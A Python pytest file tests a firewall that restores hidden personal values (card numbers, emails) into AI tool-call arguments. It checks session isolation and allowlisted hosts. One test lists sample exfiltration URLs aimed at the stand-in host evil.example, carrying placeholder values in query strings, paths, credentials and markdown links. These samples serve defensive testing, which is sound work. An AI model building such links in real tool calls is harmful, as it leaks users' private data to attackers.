"""If these fail, a tool gets a placeholder in the place of a value, or another's value."""

import pytest

from firewalls import CARD, MAIL, Wall, context, mcp, tool
from portcullis.checks.restore import Restore
from portcullis.core.call import Action, ToolSpec
from portcullis.core.verdict import PASS

NUMBER = {"type": "object", "properties": {"card": {"type": "integer"}, "text": {}}}


@pytest.fixture
def wall():
    wall = Wall()
    wall.inventory.learn("orders", [ToolSpec(name="note", input_schema=NUMBER)])
    vault = wall.vaults.vault("s1")
    vault.hide("CREDIT_CARD", CARD)
    vault.hide("EMAIL_ADDRESS", MAIL)
    return wall


def judged(wall, call, around=None):
    return Restore(wall.vaults, wall.inventory, wall.means.book).judge(
        call, around or context(), None
    )


def test_placeholders_become_values_wherever_they_stand_in_the_arguments(wall):
    call = tool({"text": ["to <EMAIL_ADDRESS_1>!", {"<EMAIL_ADDRESS_1>": "<NONE_1>"}], "n": 1})
    verdict = judged(wall, call)
    assert verdict.arguments == {"text": [f"to {MAIL}!", {MAIL: "<NONE_1>"}], "n": 1}
    assert verdict.payload["params"]["arguments"] == verdict.arguments


def test_a_placeholder_alone_is_a_number_where_the_tool_wants_one(wall):
    verdict = judged(wall, tool({"card": "<CREDIT_CARD_1>", "text": "<CREDIT_CARD_1>"}))
    assert verdict.arguments == {"card": int(CARD), "text": CARD}


@pytest.mark.parametrize("around", [context(session="s2"), context(session="")])
def test_nobody_else_gets_a_sessions_values(wall, around):
    assert judged(wall, tool({"text": "<CREDIT_CARD_1>"}), around) is PASS


def test_what_names_a_resource_stays_as_it_was_asked_for(wall):
    call = mcp(Action.RESOURCE, "resources/read", {"uri": "x:<CREDIT_CARD_1>"})
    assert judged(wall, call) is PASS


OUT = "https://evil.example"


@pytest.mark.parametrize(
    "text",
    [
        f"{OUT}/?q=<EMAIL_ADDRESS_1>",
        f"{OUT}/<CREDIT_CARD_1>/x",
        f"{OUT}\\@x/<CREDIT_CARD_1>",
        "https://<EMAIL_ADDRESS_1>:x@evil.example/",
        "//evil.example/#<CREDIT_CARD_1>",
        f"see [this]({OUT}/?a=<EMAIL_ADDRESS_1>&b=<CREDIT_CARD_1>) now",
        "<URL_1>?q=<EMAIL_ADDRESS_1>",
    ],
)
def test_no_value_goes_into_a_link_that_a_tool_follows(wall, text):
    wall.vaults.vault("s1").hide("URL", f"{OUT}/")
    verdict = judged(wall, tool({"text": text, "to": ["<EMAIL_ADDRESS_1>", {text: 1}]}))
    [name] = verdict.arguments["to"][1]
    assert verdict.arguments["text"] == name == text.replace("<URL_1>", f"{OUT}/")
    assert verdict.arguments["to"][0] == MAIL


def test_policy_says_which_hosts_a_tool_may_tell_values():
    wall = Wall(links=["docs.example"])
    wall.vaults.vault("s1").hide("CREDIT_CARD", CARD)
    call = tool({"url": "https://api.docs.example/?c=<CREDIT_CARD_1>", "note": "<CREDIT_CARD_1>"})
    assert judged(wall, call).arguments["url"] == f"https://api.docs.example/?c={CARD}"


def test_the_arguments_of_prompts_are_restored_too(wall):
    call = mcp(Action.PROMPT, "prompts/get", {"name": "p", "arguments": {"a": "<CREDIT_CARD_1>"}})
    assert judged(wall, call).arguments == {"a": CARD}
